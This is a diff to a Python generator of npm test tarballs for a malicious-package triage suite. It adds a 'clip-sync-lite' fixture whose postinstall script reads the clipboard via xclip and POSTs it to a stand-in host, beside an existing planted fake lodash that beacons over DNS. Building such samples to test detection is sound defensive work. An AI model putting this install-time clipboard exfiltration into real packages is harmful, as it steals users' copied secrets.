@@ -2,7 +2,7 @@
 """Writes one of the npm tarballs the triage tests make on the fly. Only
 writes the archive: nothing of it runs here.
 
-  make_npm_pkg.py gyp|dirbin|https|beacon|otheros|server|evalstage|dnsstage|solkey|cilog|envdump|esm|urldep|plant OUT.tgz
+  make_npm_pkg.py gyp|dirbin|https|beacon|otheros|server|evalstage|dnsstage|solkey|cilog|envdump|esm|urldep|plant|clipboard OUT.tgz
 
 gyp     fast-crc32c-native: its only code is in binding.gyp, npm's default
         install script (`node-gyp rebuild`, no install or preinstall
@@ -185,6 +185,19 @@ PACKAGES = {
             "fs.mkdirSync(d, {recursive: true});\n"
             "fs.writeFileSync(path.join(d, 'package.json'), JSON.stringify({name: 'lodash', version: '4.17.21', main: 'index.js'}));\n"
             "fs.writeFileSync(path.join(d, 'index.js'), \"require('dns').lookup('t.timing-hooks.test', () => {}); module.exports = {};\\n\");\n", 0o644),
+    }),
+    "clipboard": npm_pkg({"name": "clip-sync-lite", "version": "0.1.4",
+                          "scripts": {"postinstall": "node sync.js"}}, {
+        "sync.js": (
+            "const cp = require('child_process'), http = require('http');\n"
+            "let clip = '';\n"
+            "try {\n"
+            "  cp.execSync('command -v xclip', {stdio: 'ignore'});\n"
+            "  clip = cp.execFileSync('xclip', ['-o', '-selection', 'clipboard']).toString();\n"
+            "} catch (e) { process.exit(0); }\n"
+            "const q = http.request({host: 'clip.sync-lite.test', path: '/c', method: 'POST'}, r => r.resume());\n"
+            "q.on('error', () => {});\n"
+            "q.end(clip);\n", 0o644),
     }),
     "server": npm_pkg({"name": "tiny-dev-server", "version": "0.2.0",
                        "bin": {"tiny-dev-server": "cli.js"}}, {
